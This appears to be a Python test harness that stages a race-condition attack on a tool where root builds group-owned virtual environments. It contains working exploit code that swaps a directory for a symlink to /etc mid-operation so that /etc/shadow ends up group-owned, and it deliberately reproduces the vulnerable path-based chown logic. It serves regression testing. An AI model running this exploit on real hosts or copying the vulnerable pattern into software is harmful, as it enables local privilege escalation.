# SPDX-License-Identifier: GPL-3.0-or-later
"""A member of a group watches its environment being made, and exchanges what is in it for a link to /etc.

The member waits until a directory of the new tree may be written to, puts a directory there whose files are named like those of /etc,
and once root has begun with it puts a link to /etc in its place. Where root works by path, /etc/shadow then becomes the group's.
"""

from __future__ import annotations

import contextlib
import grp
import os
import shutil
import sys
import time
from pathlib import Path

from tests.attacks.programs import duel, product

PARENT = "/srv/groups"
EVIL = "/home/alice/evil"
LINK = "/home/alice/link"
INNER = "include"  # the last that is met, as a rule


def names() -> list[str]:
    """The trees that root is making or has just made, whatever they are called, the newest first."""
    return [os.path.join(PARENT, name) for name in os.listdir(PARENT)]


def decoy() -> None:
    """Make the directory that looks like /etc, and the link that leads there."""
    with contextlib.suppress(FileNotFoundError):
        shutil.rmtree(EVIL)
    os.mkdir(EVIL)
    for name in os.listdir("/etc"):
        if os.path.isfile(os.path.join("/etc", name)):
            with open(os.path.join(EVIL, name), "w"):
                pass
    with contextlib.suppress(FileExistsError):
        os.symlink("/etc", LINK)


def attack(board: duel.Board) -> None:
    """One attack on one tree: move in as soon as that is possible, exchange, wait for root, exchange again."""
    mine = board.number
    decoy()
    here = os.open(EVIL, os.O_RDONLY | os.O_DIRECTORY)
    try:
        if not move_in(board, mine):
            return
        # Root has listed what is there and goes through its names: now a link, now a directory.
        top = Path(os.readlink(f"/proc/self/fd/{here}")).parent
        swap = duel.Exchange(top / INNER, top / "link")
        while board.number == mine and not os.fstat(here).st_mode & 0o020:
            board.count()
        while board.number == mine and board.working:
            swap()
            board.count()
    finally:
        os.close(here)


def move_in(board: duel.Board, mine: int) -> bool:
    """Put the decoy in the place of a directory of the tree that root makes in this round, whatever the tree is called."""
    names = [f"{PARENT}/vision{mine}"]  # known beforehand; those of root's temporary trees are looked for
    while board.number == mine:
        board.count()
        for top in names:
            try:
                os.rename(EVIL, f"{top}/evil")  # from elsewhere: only what is mine may be moved between directories
            except OSError:
                continue
            duel.exchange(f"{top}/{INNER}", f"{top}/evil")
            os.rename(LINK, f"{top}/link")
            return True
        if board.tries % 16 == 0:
            names = [names[0], *(f"{PARENT}/{name}" for name in os.listdir(PARENT))]
    return False


def by_path(path: str) -> product.Answer:
    """Make a tree as the product once did: the top is the group's first, and then each name below it."""
    for directory in ("include", "bin", "lib/python3.11/site-packages"):
        os.makedirs(os.path.join(path, directory))
    for name in ("pyvenv.cfg", "pip.conf", "bin/activate", "bin/pip", "bin/pip3", "lib/python3.11/site-packages/a.pth"):
        product.write(os.path.join(path, name), "")
    gid = grp.getgrnam("vision").gr_gid
    for directory, _directories, names in os.walk(path):
        os.chown(directory, -1, gid)
        os.chmod(directory, 0o2775)
        for name in names:
            file = os.path.join(directory, name)
            with contextlib.suppress(FileNotFoundError):
                os.chown(file, -1, gid, follow_symlinks=False)
                os.chmod(file, 0o664)
    return {}


def main() -> None:
    """Let root make groups' environments."""
    product.provide()
    os.makedirs(PARENT, exist_ok=True)
    os.chmod(PARENT, 0o755)
    precious = duel.Precious("/etc")

    def work(number: int) -> product.Answer:
        for name in os.listdir(PARENT):
            shutil.rmtree(os.path.join(PARENT, name), ignore_errors=True)
        path = f"{PARENT}/vision{number}"
        if sys.argv[2:] == ["by-path"]:
            time.sleep(0.05)  # in which the attacker lays out what it needs, as it can while a virtualenv is made
            return by_path(path)
        group = {"name": "vision", "path": path, "environment": product.ENVIRONMENT}
        return product.module("users", environments=[product.plan()], groups=[group])

    duel.duel(work, attack, precious.changes, rounds=int(sys.argv[1])).tell()


if __name__ == "__main__":
    main()
